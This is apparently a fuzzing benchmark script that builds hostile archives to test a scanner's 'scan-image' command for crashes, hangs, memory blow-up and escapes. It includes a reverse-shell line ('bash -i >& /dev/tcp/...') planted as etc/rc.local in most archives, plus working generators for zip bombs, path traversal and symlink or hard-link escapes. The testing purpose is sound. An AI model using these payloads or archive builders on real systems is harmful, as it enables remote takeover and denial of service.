#!/usr/bin/env python3
"""Hostile archives against ``cranewatch scan-image``: counts of exits, hangs and peak memory.

Each case is one archive written by a hostile maker, from one of these families (a fixed seed
makes every run the same):

- ``many-members``: tens to hundreds of thousands of empty members (tar.gz, zip, cpio);
- ``deep``: paths hundreds to thousands of directories deep, as files and as directories;
- ``traversal``: ``../``, absolute and backslash names, writes through a symlink, hard links
  out of the root, control characters and terminal escapes in names;
- ``links``: symlink loops and long chains, links to ``/`` and ``..``, hard-link amplification;
- ``long-names``: names and link targets from 256 bytes to 1 MiB (pax, GNU long name, zip, cpio),
  components over NAME_MAX, huge pax headers;
- ``bombs``: tar.gz/xz/zst/bz2 members of 256 MiB to 8 GiB of zeros, GNU sparse members,
  overlapping-entry zip bombs, zips whose declared sizes lie, cpio sizes past the data;
- ``zip-odd``: encrypted members, unknown methods, entry counts that lie, duplicate names,
  file/directory clashes, device types;
- ``mutation``: byte flips, cuts, inserted junk and extreme header fields in valid tar (plain,
  gz, xz, zst, bz2), zip, cpio, squashfs and ext4 images of a small tree.

Every case runs ``cranewatch scan-image CASE --format jsonl --workers 1`` in its own process
with a private TMPDIR, a 20 s limit and a canary directory the traversal cases aim at; the
report counts exits by code, runs over 20 s, peak RSS (GNU time), temporary files left
behind and writes outside the private directory. Example:

    .venv/bin/python benchmarks/fuzz/fuzz_archives.py --count 1000 --md benchmarks/fuzz/archives.md

``tests/test_fuzz_archives.py`` runs a bounded sample of the same families in the test suite.
"""

from __future__ import annotations

import argparse
import bz2
import collections
import gzip
import io
import lzma
import os
import random
import resource
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import zstandard

REPO = Path(__file__).resolve().parents[2]
REVERSE_SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"


# --- raw tar headers (tarfile takes ~50 us a header; the member-count cases need millions) -------


def tar_header(name: bytes, size: int = 0, kind: bytes = b"0", link: bytes = b"", mode: int = 0o644) -> bytes:
    """One ustar header block; ``name`` up to 100 bytes (longer names need pax or GNU headers)."""
    head = bytearray(512)
    head[0 : len(name[:100])] = name[:100]
    head[100:108] = b"%07o\x00" % mode
    head[108:116] = b"0000000\x00"
    head[116:124] = b"0000000\x00"
    head[124:136] = b"%011o\x00" % size if size < 8**11 else b"\x80" + size.to_bytes(11, "big")
    head[136:148] = b"14536613200\x00"
    head[148:156] = b" " * 8
    head[156:157] = kind
    head[157 : 157 + len(link[:100])] = link[:100]
    head[257:265] = b"ustar\x0000"
    head[148:156] = b"%06o\x00 " % sum(head)
    return bytes(head)


def tar_member(name: bytes, data: bytes = b"", kind: bytes = b"0", link: bytes = b"", mode: int = 0o644) -> bytes:
    out = b""
    if len(name) > 100 or len(link) > 100:
        records = b""
        for key, value in ((b"path", name), (b"linkpath", link)):
            if value and len(value) > 100:
                body = b" " + key + b"=" + value + b"\n"
                length = len(body) + 1
                while len(str(length)) + len(body) != length:
                    length = len(str(length)) + len(body)
                records += str(length).encode() + body
        out += tar_header(b"././@PaxHeader", len(records), b"x") + records + b"\x00" * (-len(records) % 512)
    return out + tar_header(name, len(data), kind, link, mode) + data + b"\x00" * (-len(data) % 512)


def tar_end() -> bytes:
    return b"\x00" * 1024


def compress(data: bytes, how: str) -> bytes:
    if how == "gz":
        return gzip.compress(data, 1)
    if how == "xz":
        return lzma.compress(data, preset=0)
    if how == "zst":
        return zstandard.ZstdCompressor(level=1).compress(data)
    if how == "bz2":
        return bz2.compress(data, 1)
    return data


def _stream_compress(chunks: Iterator[bytes], how: str, out: Path) -> None:
    """Compress a long stream (bombs) without holding it in memory."""
    with open(out, "wb") as fh:
        if how == "gz":
            writer: io.BufferedIOBase | gzip.GzipFile | lzma.LZMAFile | bz2.BZ2File = gzip.GzipFile(fileobj=fh, mode="wb", compresslevel=1)
        elif how == "xz":
            writer = lzma.LZMAFile(fh, "wb", preset=0)  # noqa: SIM115 - closed below
        elif how == "bz2":
            writer = bz2.BZ2File(fh, "wb", compresslevel=1)
        else:
            writer = zstandard.ZstdCompressor(level=3).stream_writer(fh)  # type: ignore[assignment]
        for chunk in chunks:
            writer.write(chunk)
        writer.close()


# --- the families ----------------------------------------------------------------------------------

Case = tuple[str, bytes | Path]  # (suffix, content or a file already written)


def many_members(rng: random.Random, work: Path, scale: float) -> Case:
    count = int(rng.choice((5_000, 30_000, 100_000, 200_000)) * scale)
    kind = rng.choice(("tar.gz", "tar.zst", "zip", "cpio"))
    width = rng.choice((1, 10, 1000))
    names = [f"var/spam/{i % width}/{i}".encode() for i in range(count)]
    if kind == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as archive:
            archive.writestr("etc/rc.local", REVERSE_SHELL)
            for name in names:
                archive.writestr(name.decode(), b"")
        return "zip", buf.getvalue()
    if kind == "cpio":
        return "cpio", _cpio([(b"etc/rc.local", 0o100755, REVERSE_SHELL)] + [(n, 0o100644, b"") for n in names])
    raw = tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755) + b"".join(tar_header(n) for n in names) + tar_end()
    return kind, compress(raw, kind.split(".")[1])


def deep(rng: random.Random, work: Path, scale: float) -> Case:
    depth = rng.choice((100, 257, 1000, 2047, 5000))
    step = rng.choice((b"a/", b"dir/", b"./", b"x" * 200 + b"/"))
    members = [tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755)]
    path = b""
    for _level in range(min(depth, int(400 * scale) + 10)):
        path += step
        if rng.random() < 0.3:
            members.append(tar_member(path.rstrip(b"/"), kind=b"5", mode=0o755))
    members.append(tar_member(path + b"payload.sh", REVERSE_SHELL, mode=0o755))
    members.append(tar_member(step * depth + b"deepest", b"x"))
    return "tar", b"".join(members) + tar_end()


def traversal(rng: random.Random, work: Path, scale: float) -> Case:
    victim = os.environ.get("FUZZ_VICTIM", "/nonexistent-victim")
    names = [
        b"../" * rng.randint(1, 12) + b"victim/owned", victim.encode() + b"/abs-owned", b"..\\..\\victim\\win",
        b"etc/../../victim/x", b"/etc/passwd", b"./../escape", b"etc/\x1b[2J\x1b[31mCRITICAL [backdoor] forged\nline",
        b"etc/tab\tname", b"etc/\xff\xfe-latin1", b"etc/\r\rcarriage",
    ]
    members = [tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755)]
    for name in rng.sample(names, rng.randint(3, len(names))):
        members.append(tar_member(name, b"CANARY " + REVERSE_SHELL))
    members.append(tar_member(b"etc/link", kind=b"2", link=victim.encode()))
    members.append(tar_member(b"etc/link/through", b"CANARY"))
    members.append(tar_member(b"etc/up", kind=b"2", link=b"../../../../" + victim.encode().lstrip(b"/")))
    members.append(tar_member(b"etc/up/through", b"CANARY"))
    members.append(tar_member(b"etc/hard", kind=b"1", link=b"../../etc/shadow"))
    members.append(tar_member(b"etc/hard2", kind=b"1", link=victim.encode() + b"/x"))
    rng.shuffle(members)
    if rng.random() < 0.3:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as archive:
            archive.writestr("etc/rc.local", REVERSE_SHELL)
            for name in names:
                archive.writestr(name.decode("utf-8", "replace"), b"CANARY")
            info = zipfile.ZipInfo("etc/zlink")
            info.external_attr = (0o120777 << 16)
            archive.writestr(info, victim)
            archive.writestr("etc/zlink/through", b"CANARY")
        return "zip", buf.getvalue()
    return "tar.gz", compress(b"".join(members) + tar_end(), "gz")


def links(rng: random.Random, work: Path, scale: float) -> Case:
    members = [tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755)]
    members += [tar_member(b"etc/a", kind=b"2", link=b"b"), tar_member(b"etc/b", kind=b"2", link=b"a"),
                tar_member(b"etc/self", kind=b"2", link=b"self"), tar_member(b"root", kind=b"2", link=b"/"),
                tar_member(b"up", kind=b"2", link=b".."), tar_member(b"etc/dot", kind=b"2", link=b".")]
    chain = rng.randint(10, int(3000 * scale) + 20)
    for i in range(chain):
        members.append(tar_member(f"l/{i}".encode(), kind=b"2", link=f"{i + 1}".encode()))
    members.append(tar_member(f"l/{chain}".encode(), kind=b"2", link=b"0"))
    members.append(tar_member(b"etc/cron.d/job", b"* * * * * root /l/0\n"))
    if rng.random() < 0.5:  # hard-link amplification: one file, many names
        blob = bytes(rng.getrandbits(8) for _ in range(1 << 16)) * rng.choice((1, 16))
        members.append(tar_member(b"opt/blob", blob))
        members += [tar_member(f"opt/h{i}".encode(), kind=b"1", link=b"opt/blob") for i in range(rng.choice((100, 5000)))]
    if rng.random() < 0.3:
        members.append(tar_member(b"etc/hself", kind=b"1", link=b"etc/hself"))
    return "tar.gz", compress(b"".join(members) + tar_end(), "gz")


def long_names(rng: random.Random, work: Path, scale: float) -> Case:
    length = rng.choice((256, 4095, 4097, 70_000, 1 << 20))
    kind = rng.choice(("pax", "gnu", "zip", "cpio", "component", "linkname", "pax-header"))
    long = b"opt/" + bytes(rng.choice(b"abcdef/") for _ in range(length))
    if kind == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as archive:
            archive.writestr("etc/rc.local", REVERSE_SHELL)
            archive.writestr(long[:65_000].decode(), b"x")
        return "zip", buf.getvalue()
    if kind == "cpio":
        return "cpio", _cpio([(b"etc/rc.local", 0o100755, REVERSE_SHELL), (long, 0o100644, b"x")])
    if kind == "gnu":
        body = long + b"\x00"
        member = tar_header(b"././@LongLink", len(body), b"L") + body + b"\x00" * (-len(body) % 512) + tar_header(b"x", 1) + b"x" + b"\x00" * 511
    elif kind == "component":
        member = tar_member(b"opt/" + b"n" * rng.choice((256, 300, 1000)), b"x")
    elif kind == "linkname":
        member = tar_member(b"etc/lnk", kind=b"2", link=long)
    elif kind == "pax-header":
        records = b"%d comment=" % (len(long) + 20) + long
        member = tar_header(b"pax", len(records), b"x") + records + b"\x00" * (-len(records) % 512) + tar_header(b"y", 0)
    else:
        member = tar_member(long, b"x")
    return "tar", tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755) + member + tar_member(b"etc/after", REVERSE_SHELL) + tar_end()


_BOMBS: dict[tuple[str, int], Path] = {}


def bombs(rng: random.Random, work: Path, scale: float) -> Case:
    kind = rng.choice(("tar", "tar", "sparse", "zip-overlap", "zip-lie", "cpio-lie", "gzip-zeros"))
    if kind == "tar":
        how = rng.choice(("gz", "xz", "zst", "bz2"))
        size = rng.choice((256 << 20, 1 << 30, 8 << 30)) if how == "zst" else rng.choice((256 << 20, 1 << 30))
        size = int(size * scale) or (64 << 20)
        key = (how, size)
        if key not in _BOMBS:
            path = work / f"bomb-{how}-{size}.tar.{how}"

            def chunks() -> Iterator[bytes]:
                yield tar_member(b"etc/rc.local", REVERSE_SHELL, mode=0o755)
                yield tar_header(b"var/zeros", size)
                zeros = b"\x00" * (1 << 22)
                left = size
                while left:
                    yield zeros[: min(left, len(zeros))]
                    left -= min(left, len(zeros))
                yield tar_end()

            _stream_compress(chunks(), how, path)
            _BOMBS[key] = path
        return f"tar.{how}", _BOMBS[key]
    if kind == "sparse":  # GNU sparse: a map says 64 GiB, the archive holds a few bytes
        raw = bytearray(tar_header(b"var/sparse", 512, b"S"))
        raw[386:386 + 24] = b"%011o\x00%011o\x00" % (0, 512)
        raw[483:495] = b"%011o\x00" % (64 << 30)
        raw[148:156] = b" " * 8
        raw[148:156] = b"%06o\x00 " % sum(raw)
        return "tar", tar_member(b"etc/rc.local", REVERSE_SHELL) + bytes(raw) + b"\x00" * 512 + tar_end()
    if kind == "zip-overlap":  # many central entries pointing at one compressed kernel
        return "zip", _overlapping_zip(rng.choice((50, 500, 5000)), rng.choice((1 << 20, 64 << 20)))
    if kind == "zip-lie":  # declared sizes smaller or larger than the data
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("etc/rc.local", REVERSE_SHELL)
            archive.writestr("var/zeros", b"\x00" * (8 << 20))
        data = bytearray(buf.getvalue())
        at = data.rfind(b"PK\x01\x02")
        struct.pack_into("<I", data, at + 24, rng.choice((1, 100, 0xFFFFFFFF)))  # uncompressed size
        return "zip", bytes(data)
    if kind == "cpio-lie":
        return "cpio", _cpio([(b"etc/rc.local", 0o100755, REVERSE_SHELL)])[:-124] + _cpio_header(b"big", 0o100644, 0xFFFFFFFF) + b"x" * 100
    plain = tar_member(b"etc/rc.local", REVERSE_SHELL) + tar_end()
    return "tar.gz", compress(plain, "gz") + gzip.compress(b"\x00" * int((64 << 20) * scale))


def zip_odd(rng: random.Random, work: Path, scale: float) -> Case:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as archive:
        warnings.simplefilter("ignore")  # the duplicate name is the point
        archive.writestr("etc/rc.local", REVERSE_SHELL)
        archive.writestr("etc/rc.local", b"second copy\n")
        archive.writestr("etc/x", b"file")
        archive.writestr("etc/x/y", b"below a file")
        dev = zipfile.ZipInfo("dev/sda")
        dev.external_attr = 0o060660 << 16
        archive.writestr(dev, b"")
        fifo = zipfile.ZipInfo("run/fifo")
        fifo.external_attr = 0o010644 << 16
        archive.writestr(fifo, b"")
    data = bytearray(buf.getvalue())
    trick = rng.choice(("encrypted", "method", "count", "cd-offset", "none"))
    first_local = 0
    first_central = data.find(b"PK\x01\x02")
    eocd = data.rfind(b"PK\x05\x06")
    if trick == "encrypted":
        struct.pack_into("<H", data, first_local + 6, 1)
        struct.pack_into("<H", data, first_central + 8, 1)
    elif trick == "method":
        struct.pack_into("<H", data, first_local + 8, 99)
        struct.pack_into("<H", data, first_central + 10, 99)
    elif trick == "count":
        struct.pack_into("<HH", data, eocd + 8, 0xFFFF, 0xFFFF)
    elif trick == "cd-offset":
        struct.pack_into("<I", data, eocd + 16, rng.choice((0, 0xFFFFFFFF, len(data))))
    return "zip", bytes(data)


_BASES: dict[str, bytes] = {}


def _base_archives(work: Path) -> dict[str, bytes]:
    if _BASES:
        return _BASES
    tree = work / "base-tree"
    for path, data in (("etc/rc.local", REVERSE_SHELL), ("etc/hostname", b"cms\n"), ("usr/bin/tool", b"\x7fELF" + bytes(200)),
                       ("etc/cron.d/job", b"* * * * * root /usr/bin/tool\n"), ("var/lib/dpkg/status", b"Package: x\nVersion: 1\n\n")):
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(data)
    (tree / "bin").symlink_to("usr/bin")
    tar = work / "base.tar"
    subprocess.run(["tar", "-C", str(tree), "-cf", str(tar), "."], check=True)
    raw = tar.read_bytes()
    for how in ("", "gz", "xz", "zst", "bz2"):
        _BASES[f"tar.{how}" if how else "tar"] = compress(raw, how)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in sorted(p for p in tree.rglob("*") if p.is_file() and not p.is_symlink()):
            archive.write(member, member.relative_to(tree).as_posix())
    _BASES["zip"] = buf.getvalue()
    names = subprocess.run(["find", ".", "-mindepth", "1"], cwd=tree, capture_output=True, check=True).stdout
    _BASES["cpio"] = subprocess.run(["cpio", "--quiet", "-o", "-H", "newc"], cwd=tree, input=names, capture_output=True, check=True).stdout
    if shutil.which("mksquashfs"):
        out = work / "base.sqfs"
        subprocess.run(["mksquashfs", str(tree), str(out), "-quiet", "-no-progress", "-noappend"], check=True, stdout=subprocess.DEVNULL)
        _BASES["sqfs"] = out.read_bytes()
    mke2fs = shutil.which("mke2fs") or "/usr/sbin/mke2fs"
    if Path(mke2fs).exists():
        out = work / "base.ext4"
        subprocess.run([mke2fs, "-q", "-F", "-t", "ext4", "-d", str(tree), str(out), "4M"], check=True, capture_output=True)
        _BASES["ext4"] = out.read_bytes()
    return _BASES


def mutation(rng: random.Random, work: Path, scale: float) -> Case:
    bases = _base_archives(work)
    kind = rng.choice(sorted(bases))
    data = bytearray(bases[kind])
    for _ in range(rng.randint(1, 4)):
        how = rng.choice(("flip", "flip", "cut", "insert", "extreme", "zero"))
        at = rng.randrange(len(data))
        if how == "flip":
            for _ in range(rng.randint(1, 50)):
                data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        elif how == "cut":
            del data[at:]
            if not data:
                data = bytearray(b"\x1f")
        elif how == "insert":
            data[at:at] = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 4096)))
        elif how == "extreme":
            data[at : at + 12] = rng.choice((b"77777777777\x00", b"\xff" * 12, b"\x80" + b"\xff" * 11, b"99999999\x00\x00\x00\x00"))
        else:
            data[at : at + 512] = bytes(min(512, len(data) - at))
    return kind, bytes(data)


def _cpio_header(name: bytes, mode: int, size: int) -> bytes:
    fields = [0, mode, 0, 0, 1, 0, size, 0, 0, 0, 0, len(name) + 1, 0]
    head = b"070701" + b"".join(b"%08X" % (f & 0xFFFFFFFF) for f in fields) + name + b"\x00"
    return head + b"\x00" * (-len(head) % 4)


def _cpio(members: list[tuple[bytes, int, bytes]]) -> bytes:
    out = b"".join(_cpio_header(n, m, len(d)) + d + b"\x00" * (-len(d) % 4) for n, m, d in members)
    return out + _cpio_header(b"TRAILER!!!", 0, 0)


def _overlapping_zip(count: int, size: int) -> bytes:
    """David Fifield's overlapping zip bomb, simplified: every entry is the same deflate stream."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = kernel.compress(b"\x00" * size) + kernel.flush()
    crc = zlib.crc32(b"\x00" * size)
    name = b"k"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), size, len(name), 0) + name
    central = b""
    for i in range(count):
        entry = f"f{i}".encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(body), size, len(entry),
                               0, 0, 0, 0, 0, 0) + entry
    start = len(local) + len(body)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0)
    return local + body + central + end


FAMILIES: dict[str, Callable[[random.Random, Path, float], Case]] = {
    "many-members": many_members, "deep": deep, "traversal": traversal, "links": links,
    "long-names": long_names, "bombs": bombs, "zip-odd": zip_odd, "mutation": mutation,
}
# The share of each family in a run: mutations are cheap and many.
WEIGHTS = {"many-members": 1, "deep": 1, "traversal": 2, "links": 1, "long-names": 2, "bombs": 1, "zip-odd": 1, "mutation": 6}


def cases(seed: int, count: int, work: Path, scale: float = 1.0) -> Iterator[tuple[int, str, Path]]:
    """``count`` hostile archives written into ``work``: (number, family, path)."""
    rng = random.Random(seed)
    families = [name for name, weight in WEIGHTS.items() for _ in range(weight)]
    for number in range(count):
        family = families[number % len(families)] if number < len(families) else rng.choice(families)
        suffix, content = FAMILIES[family](random.Random(rng.getrandbits(64)), work, scale)
        if isinstance(content, Path):
            yield number, family, content
            continue
        path = work / f"case-{number:05d}.{suffix}"
        path.write_bytes(content)
        yield number, family, path


# --- the long run ----------------------------------------------------------------------------------


@dataclass
class Outcome:
    number: int
    family: str
    code: int
    seconds: float
    rss_mb: float
    leftovers: int
    escaped: bool
    stderr: str


def run_case(number: int, family: str, path: Path, timeout: float, victim: Path, python: str) -> Outcome:
    tmp = Path(tempfile.mkdtemp(prefix="fuzz-tmp-"))
    env = {**os.environ, "TMPDIR": str(tmp), "PYTHONPATH": str(REPO / "src")}
    rss_file = Path(tempfile.mkstemp(prefix="fuzz-rss-")[1])
    # GNU time reports its child's peak RSS; the rusage of a child forked from this (large)
    # process would start from this process's own high-water mark.
    argv = ["/usr/bin/time", "-f", "%M", "-o", str(rss_file),
            python, "-m", "cranewatch", "scan-image", str(path), "--format", "jsonl", "--out", os.devnull, "--workers", "1"]
    started = time.perf_counter()
    proc = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    try:
        _out, raw_err = proc.communicate(timeout=timeout)
        code, err = proc.returncode, raw_err.decode("utf-8", "replace")
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)  # the scan and its decompressors, not only GNU time
        _out, raw_err = proc.communicate()
        code, err = -9, raw_err.decode("utf-8", "replace")
    seconds = time.perf_counter() - started
    try:
        rss = int(rss_file.read_text().split()[-1]) / 1024
    except (ValueError, IndexError, OSError):
        rss = 0.0
    rss_file.unlink(missing_ok=True)
    leftovers = sum(1 for _ in tmp.rglob("*"))
    shutil.rmtree(tmp, ignore_errors=True)
    escaped = any(victim.iterdir())
    return Outcome(number, family, code, seconds, rss, leftovers, escaped, err[-400:])


def report(outcomes: list[Outcome], args: argparse.Namespace, elapsed: float) -> str:
    codes = collections.Counter(o.code for o in outcomes)
    by_family: dict[str, list[Outcome]] = collections.defaultdict(list)
    for o in outcomes:
        by_family[o.family].append(o)
    hangs = [o for o in outcomes if o.code == -9 or o.seconds > args.timeout]
    lines = [
        "# Hostile archives against `scan-image`",
        "",
        f"`python benchmarks/fuzz/fuzz_archives.py --count {args.count} --seed {args.seed}` "
        f"({time.strftime('%Y-%m-%d', time.gmtime())}, {os.cpu_count()} cores shared with other jobs, "
        f"{elapsed / 60:.0f} min). Each case: `cranewatch scan-image CASE --format jsonl --workers 1` in its own "
        f"process, private TMPDIR, {args.timeout:.0f} s limit, peak RSS from GNU time.",
        "",
        f"- cases: **{len(outcomes)}**",
        "- exits by code: " + ", ".join(f"**{code}**: {n}" for code, n in sorted(codes.items())) + " (0 read whole, 3 incomplete or unreadable, 70 a bug, -9 killed at the limit)",
        f"- runs over {args.timeout:.0f} s: **{len(hangs)}**",
        f"- peak RSS: **{max((o.rss_mb for o in outcomes), default=0):.0f} MB** (median {sorted(o.rss_mb for o in outcomes)[len(outcomes) // 2]:.0f} MB)",
        f"- slowest case: {max((o.seconds for o in outcomes), default=0):.1f} s",
        f"- temporary files left behind: {sum(o.leftovers for o in outcomes)}; writes outside (canary directory): {sum(o.escaped for o in outcomes)}",
        "",
        "| family | cases | exit 0 | exit 3 | other | max s | max RSS MB |",
        "|---|---|---|---|---|---|---|",
    ]
    for family in FAMILIES:
        group = by_family.get(family, [])
        if not group:
            continue
        other = sum(o.code not in (0, 3) for o in group)
        lines.append(
            f"| {family} | {len(group)} | {sum(o.code == 0 for o in group)} | {sum(o.code == 3 for o in group)} | {other} | "
            f"{max(o.seconds for o in group):.1f} | {max(o.rss_mb for o in group):.0f} |"
        )
    bad = [o for o in outcomes if o.code not in (0, 3) or o.seconds > args.timeout or o.leftovers or o.escaped]
    if bad:
        lines += ["", "## Cases that failed a property", ""]
        for o in bad[:30]:
            lines.append(f"- case {o.number} ({o.family}): exit {o.code}, {o.seconds:.1f} s, {o.rss_mb:.0f} MB, "
                         f"leftovers {o.leftovers}, escaped {o.escaped}: `{o.stderr.strip().splitlines()[-1] if o.stderr.strip() else ''}`")
    return "\n".join(lines) + "\n"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=19)
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--scale", type=float, default=1.0, help="size factor of the large cases")
    parser.add_argument("--md", type=Path, help="write the report (Markdown) here")
    parser.add_argument("--python", default=sys.executable)
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="fuzz-archives-"))
    victim = work / "victim"
    victim.mkdir()
    os.environ["FUZZ_VICTIM"] = str(victim)
    started = time.perf_counter()
    outcomes: list[Outcome] = []
    try:
        for number, family, path in cases(args.seed, args.count, work, args.scale):
            outcome = run_case(number, family, path, args.timeout, victim, args.python)
            outcomes.append(outcome)
            if not path.name.startswith("bomb-"):
                path.unlink()
            flag = "" if outcome.code in (0, 3) and outcome.seconds <= args.timeout else "  <-- !"
            print(f"{number:5d} {family:13} exit {outcome.code:3d} {outcome.seconds:6.1f} s {outcome.rss_mb:6.0f} MB{flag}", flush=True)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    text = report(outcomes, args, time.perf_counter() - started)
    if args.md:
        args.md.write_text(text)
    print(text)
    print(f"self peak RSS {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024} MB", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
